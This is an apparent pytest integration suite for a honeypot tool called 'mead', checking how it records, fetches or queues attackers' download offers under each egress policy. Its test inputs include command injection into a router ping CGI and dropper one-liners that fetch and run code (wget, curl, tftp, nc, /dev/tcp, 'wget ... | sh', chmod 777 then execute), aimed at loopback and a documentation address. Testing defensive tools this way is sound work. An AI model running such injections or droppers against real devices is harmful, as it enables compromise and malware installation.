# SPDX-License-Identifier: Apache-2.0
"""What a running deck does with offers under each policy, with real tools, servers and packets."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, closing, contextmanager
from functools import partial
from hashlib import sha256
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest

pytestmark = pytest.mark.timeout(300)

MEAD = str(Path(sys.executable).parent / "mead")
LOOPBACK = "[egress]\nallow_loopback_for_tests = true\npolicy = "
Start = Callable[..., AbstractContextManager[Any]]


def _body(name: str) -> bytes:
    return f"benign body of {name}\n".encode() * 40 + bytes(range(256))


def _digest(name: str) -> str:
    return sha256(_body(name)).hexdigest()


class _Handler(SimpleHTTPRequestHandler):
    """Files, redirects, and a list of what was asked for."""

    asked: list[tuple[str, str]]

    def do_GET(self) -> None:
        self.asked.append((self.path, self.headers.get("User-Agent", "")))
        if self.path.startswith("/hop/"):
            self.send_response(302)
            self.send_header("Location", self.path.removeprefix("/hop"))
            self.end_headers()
            return
        super().do_GET()

    def log_message(self, *_: object) -> None:
        pass


class Web:
    """A web server on loopback over a directory."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.asked: list[tuple[str, str]] = []
        handler = type("Handler", (_Handler,), {"asked": self.asked})
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(directory)))
        self.base = f"http://127.0.0.1:{self.server.server_port}"

    def serve(self, *names: str) -> None:
        for name in names:
            (self.directory / name).write_bytes(_body(name))


@pytest.fixture
def web(tmp_path: Path) -> Iterator[Web]:
    directory = tmp_path / "www"
    directory.mkdir()
    web = Web(directory)
    thread = threading.Thread(target=web.server.serve_forever, args=(0.05,))
    thread.start()
    yield web
    web.server.shutdown()
    thread.join()
    web.server.server_close()


def _inject(deck: Any, command: str) -> None:
    """Have the web service run a command, as an injection into a router's diagnosis page does."""
    url = f"http://127.0.0.1:{deck.ports['http']}/cgi-bin/ping.cgi?host=;{quote_plus(command)}"
    subprocess.run(["curl", "-s", "-m", "20", "-o", "/dev/null", url], check=True, timeout=60)


def _events(deck: Any, where: str) -> list[dict[str, Any]]:
    text = deck.mead("events", "--where", where, "-o", "jsonl", "--limit", "100000").stdout
    return [json.loads(line) for line in text.splitlines()]


def _until(condition: Callable[[], Any], what: str, seconds: float = 60) -> Any:
    deadline = time.monotonic() + seconds
    while not (found := condition()):
        assert time.monotonic() < deadline, what
        time.sleep(0.3)
    return found


def _free_port(kind: socket.SocketKind = socket.SOCK_STREAM) -> int:
    with closing(socket.socket(socket.AF_INET, kind)) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@contextmanager
def _program(*command: str, **options: Any) -> Iterator[None]:
    """A server for as long as the block runs."""
    with subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **options
    ) as process:
        try:
            yield
        finally:
            process.terminate()


@pytest.mark.xdist_group("deck")
@pytest.mark.tool("curl")
def test_until_the_operator_answered_every_listing_says_how_many_offers_were_left(deck: Any) -> None:
    names = [f"left{os.getpid()}-{number}" for number in range(3)]
    _inject(deck, "; ".join(f"wget http://198.51.100.9/{name}" for name in names))
    where = f"kind = 'fetch.refused' and url like '%left{os.getpid()}-%'"
    left = _until(lambda: len(found := _events(deck, where)) == 3 and found, "three offers were left")
    assert {(event["policy"], event["reason"]) for event in left} == {("observe", "policy is observe")}
    deck.mead("selftest", "--exit-zero")  # so that there is a sample as well
    count = len(_events(deck, "kind = 'fetch.refused' and policy = 'observe'"))
    said = (
        f"{count} offers were recorded and not fetched because the egress policy was observe; "
        "`mead init` changes it\n"
    )
    session = left[0]["session"]
    for listing in (["events"], ["sessions"], ["samples"], ["stats"], ["show", session]):
        for output in ("json", "table"):
            done = deck.mead(*listing, "-o", output)
            assert said in done.stderr, listing
            assert "recorded and not fetched" not in done.stdout
            if output == "json":
                json.loads(done.stdout)
    with subprocess.Popen(
        [MEAD, "-c", str(deck.configuration), "events", "-f", "--limit", "1"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    ) as follower:  # fmt: skip
        assert follower.stderr
        assert follower.stderr.readline() == said
        follower.terminate()


@pytest.mark.root
@pytest.mark.tool("curl", "atftpd", "vsftpd", "nc", "openssl")
def test_every_way_to_get_a_body_gets_it(start_deck: Start, web: Web, tmp_path: Path) -> None:
    names = ["wget", "curl", "bbwget", "tftp", "ftpget", "nc", "tcp", "tls", "hop", "arm", "mips", "late"]
    web.serve(*names)
    script = (
        f"#!/bin/sh\nfor a in arm mips; do wget {web.base}/$a -O /tmp/$a; chmod 777 /tmp/$a; /tmp/$a; done\n"
    )
    (web.directory / "s.sh").write_text(script)
    trap, trapped = socket.create_server(("127.0.0.1", 0)), []
    threading.Thread(target=lambda: trapped.append(trap.accept()), daemon=True).start()
    proxy = f"http://127.0.0.1:{trap.getsockname()[1]}"
    proxies = {f"{name}_proxy": proxy for name in ("http", "https", "ftp", "all")}
    dead = _free_port()
    with ExitStack() as stack:
        ports = _servers(stack, web.directory, tmp_path)
        (tmp_path / "deck").mkdir()
        settings = LOOPBACK + '"fetch"\nretry_seconds = [0.2, 3600.0]\nquiet_seconds = 1.0\n'
        deck = stack.enter_context(
            start_deck(
                tmp_path / "deck", settings, environment=proxies | {k.upper(): v for k, v in proxies.items()}
            )
        )
        assert "from loopback only: allow_loopback_for_tests is on" in (deck.directory / "log").read_text()
        _inject(deck, (
            f"cd /tmp; wget {web.base}/wget; curl -o c {web.base}/curl; busybox wget {web.base}/bbwget; "
            f"tftp -g -r tftp 127.0.0.1 {ports['tftp']}; "
            f"busybox ftpget -P {ports['ftp']} 127.0.0.1 f ftpget; "
            f"nc 127.0.0.1 {ports['nc']} > n; cat < /dev/tcp/127.0.0.1/{ports['tcp']} > t; "
            f"curl -k https://localhost:{ports['tls']}/tls -o s; wget {web.base}/hop/hop; "
            f"wget {web.base}/s.sh -O- | sh; wget http://127.0.0.1:{dead}/dead"
        ))  # fmt: skip
        got = _until(lambda: _got(deck, {_digest(name) for name in names[:-1]}), "all bodies came")
        _until(lambda: len(_events(deck, "kind = 'fetch.failed'")) == 2, "two attempts failed")
    _judge(got, web, ports)
    last = [(e["attempt"], e["final"], e["reason"]) for e in _events(deck, "kind = 'fetch.failed'")]
    assert last == [
        (1, False, "Connection refused"), (2, False, "Connection refused"),
        (2, True, "stopped before attempt 3"),
    ]  # fmt: skip
    assert not trapped
    trap.close()


def _servers(stack: ExitStack, directory: Path, tmp_path: Path) -> dict[str, int]:
    """A TFTP, an FTP and a TLS server over the directory, and two that only send."""
    ports = {name: _free_port() for name in ("ftp", "nc", "tcp", "tls")}
    ports["tftp"] = _free_port(socket.SOCK_DGRAM)
    stack.enter_context(_program(
        shutil.which("atftpd") or "/usr/sbin/atftpd", "--daemon", "--no-fork", "--user", "root",
        "--bind-address", "127.0.0.1", "--port", str(ports["tftp"]), str(directory),
    ))  # fmt: skip
    tmp_path.chmod(0o755)
    (tmp_path / "empty").mkdir()
    configuration = tmp_path / "vsftpd.conf"
    configuration.write_text(
        f"listen=YES\nlisten_port={ports['ftp']}\nlisten_address=127.0.0.1\nbackground=NO\n"
        f"anonymous_enable=YES\nanon_root={directory}\nsecure_chroot_dir={tmp_path}/empty\nseccomp_sandbox=NO\n"
    )
    stack.enter_context(_program(shutil.which("vsftpd") or "/usr/sbin/vsftpd", str(configuration)))
    for name in ("nc", "tcp"):
        given = stack.enter_context((directory / name).open("rb"))
        stack.enter_context(_program("nc", "-N", "-l", "127.0.0.1", str(ports[name]), stdin=given))
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(tmp_path / "k.pem"),
         "-out", str(tmp_path / "c.pem"), "-days", "1", "-subj", "/O=Nobody/CN=elsewhere.example"],
        check=True, capture_output=True,
    )  # fmt: skip
    stack.enter_context(_program(
        "openssl", "s_server", "-accept", f"127.0.0.1:{ports['tls']}", "-cert", str(tmp_path / "c.pem"),
        "-key", str(tmp_path / "k.pem"), "-WWW", "-quiet", cwd=directory, stdin=subprocess.DEVNULL,
    ))  # fmt: skip
    return ports


def _got(deck: Any, digests: set[str]) -> list[dict[str, Any]]:
    """The events of fetches and samples, once all these bodies are among them."""
    events = _events(deck, "kind like 'fetch.%' or kind = 'sample.captured' or kind = 'offer.seen'")
    captured = {event["sha256"] for event in events if event["kind"] == "sample.captured"}
    return events if digests <= captured else []


def _judge(events: list[dict[str, Any]], web: Web, ports: dict[str, int]) -> None:
    done = {event["sha256"]: event for event in events if event["kind"] == "fetch.done"}
    assert {event["address"] for event in done.values()} == {"127.0.0.1"}
    assert all(event["attempt"] == 1 for event in done.values())
    tls, hop = done[_digest("tls")], done[_digest("hop")]
    assert (tls["certificate_subject"], tls["status"]) == ("CN=elsewhere.example,O=Nobody", 200)
    assert tls["dns_answers"] == ["127.0.0.1", "::1"]
    assert hop["redirects"] == [f"{web.base}/hop"]
    assert done[_digest("ftpget")]["status"] == 226
    depth = {event["url"]: event["depth"] for event in events if event["kind"] == "offer.seen"}
    assert depth[f"{web.base}/arm"] == depth[f"{web.base}/mips"] == depth[f"{web.base}/s.sh"] + 1
    agents = dict(web.asked)
    assert agents["/curl"].startswith("curl/")
    assert agents["/wget"].startswith("Wget")
    assert set(agents) == {
        f"/{name}" for name in ("wget", "curl", "bbwget", "hop/hop", "hop", "s.sh", "arm", "mips")
    }


@pytest.mark.tool("curl")
def test_one_url_of_many_bots_is_fetched_once_and_each_offer_has_its_outcome(
    start_deck: Start, web: Web, tmp_path: Path
) -> None:
    web.serve("x")
    with start_deck(tmp_path, LOOPBACK + '"fetch"\n') as deck:
        for _ in range(5):
            _inject(
                deck,
                "; ".join(f"wget {web.base}/x -O /tmp/{n}; curl -o /tmp/c {web.base}/x" for n in range(2)),
            )
        done = _until(
            lambda: len(found := _events(deck, "kind = 'fetch.done'")) >= 10 and found,
            "each offer has an outcome",
        )
        offers = {event["offer"] for event in _events(deck, "kind = 'offer.seen'")}
    assert {event["offer"] for event in done} == offers
    assert [path for path, _ in web.asked] == ["/x"]
    assert sum("same_as" not in event for event in done) == 1


@pytest.mark.tool("curl")
def test_offers_wait_in_the_queue_over_restarts_until_a_fetcher_comes(
    start_deck: Start, web: Web, tmp_path: Path
) -> None:
    web.serve("arm", "mips")
    (web.directory / "s.sh").write_text(f"#!/bin/sh\nfor a in arm mips; do wget {web.base}/$a; done\n")
    settings = LOOPBACK + '"queue"\nretry_seconds = [600.0]\n'  # the killed one still waits
    with start_deck(tmp_path, settings) as deck:
        _inject(deck, f"wget {web.base}/s.sh; wget {web.base}/late")
        _until(lambda: len(_events(deck, "kind = 'fetch.refused'")) == 2, "two offers were handed on")
    assert not web.asked
    with start_deck(tmp_path, settings) as deck:
        assert "offers wait for `mead worker --queues fetch`" in (deck.directory / "log").read_text()
        command = [MEAD, "-c", str(deck.configuration), "worker", "--queues", "fetch"]
        with subprocess.Popen(command) as fetcher:
            _until(lambda: _got(deck, {_digest("arm"), _digest("mips")}), "the script was followed")
            _until(
                lambda: ("/late", "Wget") in web.asked or len(web.asked) >= 4, "the first attempt was made"
            )
            assert not _is_root(fetcher.pid)
            fetcher.send_signal(signal.SIGKILL)
        web.serve("late")
        with subprocess.Popen(command) as fetcher:
            late = _until(lambda: _got(deck, {_digest("late")}), "what the killed one held came back", 120)
            fetcher.terminate()
            assert fetcher.wait(30) == 0
        refused = _events(deck, "kind = 'fetch.refused'")
        stats = [json.loads(line) for line in deck.mead("stats", "-o", "jsonl").stdout.splitlines()]
    assert {event["reason"] for event in refused} == {"handed to the central fetcher"}
    sessions = {event["session"] for event in late}
    assert len(sessions) == 1
    assert not [row for row in stats if row["group"] == "no body because"]


def _is_root(pid: int) -> bool:
    status = Path(f"/proc/{pid}/status").read_text()
    return "0" in next(line for line in status.splitlines() if line.startswith("Uid:")).split()
